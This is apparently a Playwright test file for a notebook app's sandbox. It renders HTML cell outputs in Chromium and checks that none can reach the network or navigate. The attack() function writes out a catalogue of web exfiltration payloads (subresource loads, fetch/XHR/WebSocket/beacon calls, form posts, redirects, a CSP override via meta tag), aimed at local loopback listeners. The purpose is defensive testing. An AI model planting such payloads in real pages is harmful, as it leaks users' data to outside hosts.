import * as net from 'node:net';
import type { AddressInfo } from 'node:net';
import type { Browser, Frame, Page } from 'playwright-core';
import { api, describeInBrowser, ensureBuilt, launchBrowser, startHost, type Host } from './harness';

/**
 * Issue 19, item 3: HTML outputs must have no network and no navigation, whatever they hold, so a
 * value a cell computed cannot leave when the notebook is opened. A notebook whose Python cells
 * output HTML that tries every way out is opened in Chromium; a listener on another loopback port
 * counts every TCP connection (an `https:` attempt reaches it too, as a TLS hello). An output that
 * only draws still draws.
 */
jest.setTimeout(240_000);

/**
 * Each entry is one cell's HTML, aimed at its own listener (`sink`); navigations get a cell each,
 * since one that worked would end its document. `navigates` marks the cells that try to navigate.
 */
const NAVIGATIONS = new Set(['nested frame', 'location', 'meta refresh', 'link click', 'data: document']);

function attack(name: string, sink: string): string {
  const host = sink.replace('http://', '');
  const mark = `<script>document.body.setAttribute('data-attempted', '1')</script>`;
  const cases: Record<string, string> = {
    subresources:
      `<img src="${sink}/img"><img src="https://${host}/img-https"><script src="${sink}/script"></script>` +
      `<link rel="stylesheet" href="${sink}/css"><link rel="prefetch" href="${sink}/prefetch"><div style="background:url(${sink}/bg);width:4px;height:4px"></div>` +
      `<style>@font-face{font-family:x;src:url(${sink}/font)}body{font-family:x}</style><svg><image href="${sink}/svg"/></svg>` +
      `<video src="${sink}/video"></video><object data="${sink}/object"></object>${mark}`,
    scripts:
      `<script>try{fetch('${sink}/fetch').catch(function(){})}catch(e){}try{var x=new XMLHttpRequest();x.open('GET','${sink}/xhr');x.send()}catch(e){}` +
      `try{new WebSocket('ws://${host}/ws')}catch(e){}try{navigator.sendBeacon('${sink}/beacon','x')}catch(e){}try{new EventSource('${sink}/sse')}catch(e){}` +
      `try{new Worker('${sink}/worker.js')}catch(e){}try{window.open('${sink}/popup')}catch(e){}try{top.location='${sink}/top'}catch(e){}</script>${mark}`,
    'form post': `<form id="f" method="post" action="${sink}/form"><input name="v" value="42"></form><script>f.submit()</script>${mark}`,
    'nested frame': `<iframe src="${sink}/iframe"></iframe>${mark}`,
    'location': `<script>location.href='${sink}/location?v=42'</script>${mark}`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${sink}/refresh">${mark}`,
    'link click': `<a id="a" href="${sink}/anchor">x</a><script>a.click()</script>${mark}`,
    'data: document': `<script>location.href="data:text/html,<img src='${sink}/data-img'>"</script>${mark}`,
    'own policy first': `<meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${sink}/"><img src="${sink}/after-meta"><img src="relative">${mark}`,
    draws:
      `<canvas id="c" width="40" height="20"></canvas><p id="drawn"></p><script>var g=c.getContext('2d');g.fillStyle='#c00';g.fillRect(0,0,20,20);` +
      `document.getElementById('drawn').textContent='drawn:'+g.getImageData(5,5,1,1).data[0]</script>${mark}`,
  };
  return cases[name]!;
}

const CASES = ['subresources', 'scripts', 'form post', 'nested frame', 'location', 'meta refresh', 'link click', 'data: document', 'own policy first', 'draws'];

/** A loopback listener that counts TCP connections and the bytes sent on them. */
interface Sink {
  url: string;
  connections: number;
  bytes: number;
  close(): Promise<void>;
}

async function startSink(): Promise<Sink> {
  const server = net.createServer((socket) => {
    sink.connections++;
    socket.on('data', (chunk) => {
      sink.bytes += chunk.length;
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 1\r\nconnection: close\r\n\r\nx');
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const sink: Sink = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    connections: 0,
    bytes: 0,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
  return sink;
}

const CLASS_CELL = ['class Html:', '    def __init__(self, html):', '        self.html = html', '    def _repr_html_(self):', '        return self.html'].join('\n');

/** The frame holding a cell's HTML: the one inside the output frame (or that frame, were there only one). */
async function cellDocument(page: Page, index: number): Promise<Frame> {
  const element = await page.locator('section[data-cell-id]').nth(index).locator('iframe.output--html').elementHandle({ timeout: 60_000 });
  const outer = (await element!.contentFrame())!;
  await outer.waitForLoadState('domcontentloaded');
  const inner = await outer.$('iframe#rnb-output');
  return inner ? (await inner.contentFrame())! : outer;
}

/** Where an output frame may be: its own document, or Chromium's error page after a navigation was refused. */
const STAYED = /^(about:srcdoc|chrome-error:\/\/chromewebdata\/)$/;

/** Waits until the cell's document ran its last script, or a navigation of it was refused (an error page). */
async function ranToItsEnd(frame: Frame, name: string): Promise<void> {
  for (let tries = 0; tries < 300; tries++) {
    const url = frame.url();
    if (url !== 'about:srcdoc') {
      expect({ name, url }).toEqual({ name, url: expect.stringMatching(STAYED) });
      return;
    }
    if (await frame.$('body[data-attempted="1"]').catch(() => null)) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`the output "${name}" never ran to its end`);
}

describeInBrowser('HTML outputs in a real browser', () => {
  let host: Host;
  let browser: Browser;
  const sinks = new Map<string, Sink>();

  beforeAll(async () => {
    ensureBuilt();
    for (const name of CASES) sinks.set(name, await startSink());
    host = await startHost();
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser?.close();
    await host?.close();
    for (const sink of sinks.values()) await sink.close();
  });

  it('never lets an output reach the network or navigate, and still lets it draw', async () => {
    const id = (await api(host, 'POST', 'api/notebooks', { name: 'Outputs' })).body.notebook_id as string;
    const first = (await api(host, 'GET', `api/notebooks/${id}`)).body.cells[0].id as string;
    await api(host, 'PUT', `api/notebooks/${id}/cells/${first}`, { code: CLASS_CELL });
    let after = first;
    for (const name of CASES) {
      const html = attack(name, sinks.get(name)!.url);
      // A JSON string is a valid Python string literal.
      after = (await api(host, 'POST', `api/notebooks/${id}/cells`, { type: 'python', code: `Html(${JSON.stringify(html)})`, after_cell_id: after })).body.cell_id;
    }
    // Running the class cell runs every cell that reads it.
    expect((await api(host, 'POST', `api/notebooks/${id}/cells/${first}/run`)).status).toBe(202);
    for (let settled = false; !settled; ) {
      await new Promise((resolve) => setTimeout(resolve, 250));
      const cells = (await api(host, 'GET', `api/notebooks/${id}`)).body.cells as { status: string }[];
      settled = cells.every((c) => c.status === 'success' || c.status === 'error');
      if (cells.some((c) => c.status === 'error')) throw new Error(`a cell failed: ${JSON.stringify(cells)}`);
    }

    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(host.url);
    await page.goto(`${host.base}#/n/${id}`);
    const names = CASES;
    for (let i = 0; i < names.length; i++) await ranToItsEnd(await cellDocument(page, i + 1), names[i]!);
    const drawing = await cellDocument(page, names.indexOf('draws') + 1);
    expect(await drawing.locator('#drawn').textContent()).toBe('drawn:204');
    // Requests already issued would have connected by now; give stragglers (a refresh after 0 s) a moment.
    await page.waitForTimeout(1500);
    for (let i = 0; i < names.length; i++) expect({ name: names[i], url: (await cellDocument(page, i + 1)).url() }).toEqual({ name: names[i], url: expect.stringMatching(STAYED) });
    const reached = CASES.map((name) => ({ name, connections: sinks.get(name)!.connections, bytes: sinks.get(name)!.bytes }));
    // No request ever left: not one byte reached any listener.
    expect(reached.filter((r) => r.bytes > 0)).toEqual([]);
    // Chromium opens a connection to the host of a navigation before its policy check refuses it (a
    // speculative connect: no byte is sent, see the README). Everything else never connects at all.
    expect(reached.filter((r) => r.connections > 0 && !NAVIGATIONS.has(r.name))).toEqual([]);
    expect(page.url()).toContain(host.base);
    await context.close();
  });
});
